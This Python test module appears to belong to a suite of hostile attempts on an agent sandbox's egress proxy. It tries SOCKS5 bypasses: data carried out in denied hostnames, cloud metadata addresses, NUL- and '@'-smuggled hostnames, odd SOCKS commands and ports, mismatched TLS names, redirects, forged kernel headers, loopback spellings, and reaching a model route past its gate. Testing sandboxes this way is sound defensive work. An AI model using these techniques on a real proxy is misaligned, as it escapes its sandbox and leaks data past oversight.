"""Attempts on the proxy beyond HTTP and CONNECT: by SOCKS5, on a host with a model route, by what a server answers."""

import contextlib
import socket
import ssl
from collections.abc import Callable
from ipaddress import ip_address

from hostile.attempts import NETWORK, Targets, attempt, gather
from hostile.attempts_network import METADATA, connect_through, get_through, through_proxy

ROUTED = "model.granted.test"  # granted by a wildcard, and there is a door to it
DENIED = b"GET / HTTP/1.0\r\nHost: denied.test\r\n\r\n"


def through_socks(t: Targets, host: str, port: int, then: bytes = b"\r\n", command: int = 1) -> bytes:
    """One SOCKS5 request, an address as an address; if it was granted also `then`. All that came back."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(tuple(t["proxy"]))
        sock.sendall(b"\x05\x01\x00")
        answer = sock.recv(2)
        sock.sendall(bytes([5, command, 0]) + _place(host) + port.to_bytes(2))
        answer += sock.recv(10)
        if answer[2:4] != b"\x05\x00":
            return b"[socks: %b]" % answer[2:4].hex(" ").encode()
        sock.sendall(then)
        try:
            while part := sock.recv(4096):
                answer += part
        except TimeoutError:
            answer += b" [timeout]"
        return answer


def _place(host: str) -> bytes:
    try:
        raw = ip_address(host.strip("[]")).packed
    except ValueError:
        raw = host.encode("latin-1")
        return bytes([3, len(raw)]) + raw
    return (b"\x01" if len(raw) == 4 else b"\x04") + raw


def client_hello(name: str) -> bytes:
    outgoing = ssl.MemoryBIO()
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


@attempt("72b", "carry data out in the name of a denied host, by SOCKS", NETWORK, "C", "egress")
def data_in_name(t: Targets) -> object:
    return through_socks(t, f"{t['label']}-by-socks.denied.test", 443)


@attempt("73b", "metadata addresses in every spelling, by SOCKS", NETWORK, "C", "egress")
def metadata(t: Targets) -> object:
    return gather([lambda host=host: through_socks(t, host, 80, DENIED) for host in METADATA])


@attempt("74", "a SOCKS host with a NUL, a space, an '@' or odd letters in it", NETWORK, "C", "egress")
def nul_host(t: Targets) -> object:
    hosts = ["denied.test\0.granted.test", "denied.test\0granted.test", "granted.test\0.denied.test", "denied.test\0"]
    hosts += ["denied.test .granted.test", "denied.test@granted.test", "granted.test@denied.test", "\0", "\xe9.test"]
    hosts += ["denied.test/.granted.test", "denied.test#.granted.test", "denied.test:80.granted.test", "", "x" * 255]
    return gather([lambda host=host: through_socks(t, host, 80, DENIED) for host in hosts])


@attempt("74b", "SOCKS BIND and UDP ASSOCIATE, and commands that do not exist", NETWORK, "C", "egress")
def other_commands(t: Targets) -> object:
    numbers = (0, 2, 3, 4, 0x80, 0xF0, 0xFF)
    return gather([lambda number=number: through_socks(t, "granted.test", 80, DENIED, number) for number in numbers])


@attempt("75b", "SOCKS to ports 22 and 25 of an allowed host", NETWORK, "C", "egress")
def odd_ports(t: Targets) -> object:
    return gather([lambda port=port: through_socks(t, "granted.test", port) for port in (0, 22, 25, 8080, 65535)])


@attempt("76b", "TLS for another name than the SOCKS request", NETWORK, "C", "egress")
def other_sni(t: Targets) -> object:
    return through_socks(t, "granted.test", 443, client_hello("other.test"))


@attempt("77e", "follow a redirect to a denied host, by SOCKS", NETWORK, "C", "egress")
def redirect(t: Targets) -> object:
    answer = through_socks(t, "granted.test", 80, b"GET / HTTP/1.0\r\nHost: granted.test\r\n\r\n")
    if b"http://denied.test/" not in answer:
        return answer.replace(b"SECRET", b"no redirect: ")
    return through_socks(t, "denied.test", 80, DENIED)


@attempt(
    "78",
    "a header that a route attaches, echoed by its host",
    NETWORK,
    "C",
    "egress",
    "n/a: no route attaches a header yet, so there is none to echo",
)
def echoed_header(t: Targets) -> object:
    return get_through(t, "echo.granted.test")


@attempt("78b", "a host that answers in the kernel's name (X-AgentOS)", NETWORK, "C", "egress")
def forged_header(t: Targets) -> object:
    return get_through(t, "forge.granted.test")


@attempt("109", "a model route's host, past its door, with a key of one's own", NETWORK, "C", "egress")
def past_the_door(t: Targets) -> object:
    hello = client_hello(ROUTED)
    asked = f"GET / HTTP/1.1\r\nHost: {ROUTED}\r\nAuthorization: Bearer mine\r\nConnection: close\r\n\r\n".encode()
    takes: list[Callable[[], object]] = []
    for host in (ROUTED, ROUTED.upper(), f"{ROUTED}."):
        takes += [
            lambda host=host: connect_through(t, f"{host}:443", hello),
            lambda host=host: connect_through(t, f"{host}:80", asked),
            lambda host=host: through_socks(t, host, 443, hello),
            lambda host=host: through_socks(t, host, 80, asked),
            lambda host=host: through_proxy(t, asked.replace(b"GET /", f"GET http://{host}/".encode(), 1)),
        ]
    # Through a neighbour on the same front, by the name in TLS or in the Host header.
    takes.append(lambda: connect_through(t, "www.granted.test:443", hello))
    takes.append(lambda: through_socks(t, "www.granted.test", 443, hello))
    takes.append(lambda: through_proxy(t, asked.replace(b"GET /", b"GET http://www.granted.test/", 1)))
    return gather(takes)


@attempt("110b", "the host's loopback by SOCKS", NETWORK, "C", "egress")
def loopback(t: Targets) -> object:
    hosts = ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "0x7f000001", "[::ffff:127.0.0.1]", "[::]"]
    hosts += ["loopback.granted.test", "both.granted.test"]
    places = [(host, port) for host in hosts for port in (80, t["port"])]
    return gather([lambda place=place: through_socks(t, *place) for place in places])
